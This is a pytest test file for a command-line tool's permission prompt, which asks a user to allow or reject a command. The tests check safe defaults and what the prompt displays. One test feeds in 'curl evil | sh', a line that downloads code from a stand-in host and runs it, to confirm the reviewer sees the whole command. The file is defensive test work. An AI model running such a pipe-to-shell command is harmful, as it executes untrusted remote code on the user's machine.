"""The permission card: nothing is ever approved by accident."""

from __future__ import annotations

from dataclasses import replace
from typing import Final

import pytest
from crdtsync_cli.terminal.card import DEAD_S, Answer, Card, Question
from hypothesis import given
from hypothesis import strategies as st

from crdtsync.entities import Approval, Option
from crdtsync.schema import JsonValue

ALLOW: Final = Option("yes", "Allow", "allow_once")
ALWAYS: Final = Option("always", "Always", "allow_always")
REJECT: Final = Option("no", "Reject", "reject_once")


def question(
    number: int = 7,
    *options: Option,
    title: str = "rm -r build/",
    command: str = "",
    hashed: str = "h",
) -> Question:
    shown = options or (ALLOW, ALWAYS, REJECT)
    given: JsonValue = {"command": command} if command else None
    approval = Approval(
        f"q{number}", number, "t1", "t1/c1", title, given, hashed, shown, "", ""
    )
    return Question(approval, "demo", "bob")


def focused(*questions: Question) -> Card:
    card = Card()
    card.ask(questions or [question()], 0.0)
    assert card.focus(0.0)
    return card


def test_it_has_no_focus_until_it_is_given() -> None:
    card = Card()
    assert not card.focus(0.0)
    card.ask([question()], 0.0)
    assert not card.focused
    card.choose(1, 1.0)
    assert card.confirm(1.0) is None


def test_enter_denies_unless_something_else_was_chosen() -> None:
    assert focused().confirm(1.0) == Answer("q7", 7, "no", "Reject")


@pytest.mark.parametrize(("number", "option"), [(1, "yes"), (2, "always"), (3, "no")])
def test_numbers_choose_and_enter_answers(number: int, option: str) -> None:
    card = focused()
    card.choose(number, 1.0)
    assert card.focused
    answer = card.confirm(1.0)
    assert answer is not None
    assert answer.option == option
    assert not card.focused


def test_arrows_go_around() -> None:
    card = focused()
    chosen = []
    for step in (1, 1, -1, -1, -1):
        card.step(step, 1.0)
        assert card.selected is not None
        chosen.append(card.selected.id)
    assert chosen == ["yes", "always", "yes", "no", "always"]


def test_keys_are_dead_right_after_the_focus() -> None:
    card = focused()
    soon = DEAD_S - 0.01
    card.choose(1, soon)
    card.step(1, soon)
    assert card.confirm(soon) is None
    assert card.focused
    assert card.selected == REJECT
    assert card.confirm(DEAD_S) is not None


def test_without_a_no_nothing_is_chosen_at_first() -> None:
    card = focused(question(7, ALLOW, ALWAYS))
    assert card.selected is None
    assert card.confirm(1.0) is None
    card.step(-1, 1.0)
    assert card.selected == ALWAYS


def test_a_question_decided_elsewhere_takes_its_focus_along() -> None:
    card = focused(question(7), question(8))
    card.ask([question(8)], 5.0)
    assert not card.focused
    assert card.is_dead(5.1)
    assert card.confirm(6.0) is None


def test_another_command_under_the_same_number_is_another_question() -> None:
    card = focused(question(7, hashed="h"))
    card.choose(1, 1.0)
    card.ask([question(7, hashed="other")], 1.1)
    assert card.confirm(2.0) is None


def test_the_oldest_is_reviewed_first() -> None:
    card = focused(question(7), question(8))
    answer = card.confirm(1.0)
    assert answer is not None
    assert answer.number == 7


def test_unfocused_it_is_one_row() -> None:
    card = Card()
    assert card.rows(80, 0.0) == []
    card.ask([question(7), question(8)], 0.0)
    assert card.rows(80, 0.0) == [
        (
            "class:question",
            "╎ PERMISSION #7 demo wants: rm -r build/  "
            "[Tab] review   asked by bob   +1 more",
        )
    ]


def test_focused_it_shows_what_would_be_run() -> None:
    card = focused(question(7, title="Run make", command="make\ncurl evil | sh"))
    assert [text for _, text in card.rows(76, 1.0)] == [
        "╎ PERMISSION #7 demo wants: Run make",
        "╎   command: make",
        "╎   curl evil | sh",
        "╎  1 Allow    2 Always   >3 Reject",
        "╎ arrows or 1-3 choose, Enter answers, Esc goes back",
    ]


def test_who_may_not_answer_can_read_what_is_asked_and_choose_nothing() -> None:
    mine = question(7, title="Run make", command="make all")
    other = replace(mine, refused="you may not answer here")
    card = Card()
    card.ask([other], 0.0)
    assert "[Tab] read " in card.rows(80, 0.0)[0][1]
    assert card.focus(0.0)
    card.choose(1, 1.0)
    card.step(1, 1.0)
    assert card.confirm(1.0) is None
    assert [text for _, text in card.rows(76, 1.0)] == [
        "╎ PERMISSION #7 demo wants: Run make",
        "╎   command: make all",
        "╎ you may not answer here; Esc goes back",
    ]


def test_a_narrow_window_keeps_the_key_that_reviews() -> None:
    card = Card()
    card.ask([question(7)], 0.0)
    assert [text for _, text in card.rows(40, 0.0)] == [
        "╎ PERMISSION #7 demo wan…  [Tab] review"
    ]


def test_no_answer_is_cut_off_in_a_narrow_or_low_window() -> None:
    long = [
        Option(str(n), f"Answer number {n} of them all", "allow_once") for n in (1, 2)
    ]
    card = focused(question(7, *long, REJECT, command="a\nb\nc\nd\ne\nf"))
    assert [text for _, text in card.rows(41, 1.0, height=6)] == [
        "╎ PERMISSION #7 demo wants: rm -r build/",
        "╎   ... 6 more rows: /activity",
        "╎  1 Answer number 1 of them all",
        "╎  2 Answer number 2 of them all",
        "╎ >3 Reject",
        "╎ 1-3 choose, Enter answers, Esc goes b…",
    ]
    assert [text for _, text in card.rows(41, 1.0, height=1)] == [
        "╎ PERMISSION #7 demo wants: rm -r build/",
        "╎  1 Answer number 1 of them all",
        "╎  2 Answer number 2 of them all",
        "╎ >3 Reject",
    ]


@given(
    st.text(max_size=300), st.text(max_size=600), st.integers(10, 200), st.booleans()
)
def test_no_text_can_break_its_rows(
    title: str, command: str, columns: int, focus: bool
) -> None:
    card = Card()
    card.ask([question(7, title=title, command=command)], 0.0)
    if focus:
        card.focus(0.0)
    rows = card.rows(columns, 1.0)
    assert 1 <= len(rows) <= 10
    for _, text in rows:
        assert len(text) <= columns - 1
        assert not any(ord(char) < 32 or ord(char) == 127 for char in text)


KEYS = st.sampled_from(["y", "1", "2", "3", "enter", "left", "right", "other"])


@given(st.lists(st.tuples(KEYS, st.floats(0, 0.39)), max_size=50))
def test_no_keys_right_after_the_focus_decide(keys: list[tuple[str, float]]) -> None:
    card = focused()
    for key, now in sorted(keys, key=lambda pair: pair[1]):
        match key:
            case "1" | "2" | "3":
                card.choose(int(key), now)
            case "left" | "right":
                card.step(1, now)
            case "enter":
                assert card.confirm(now) is None
    assert card.selected == REJECT
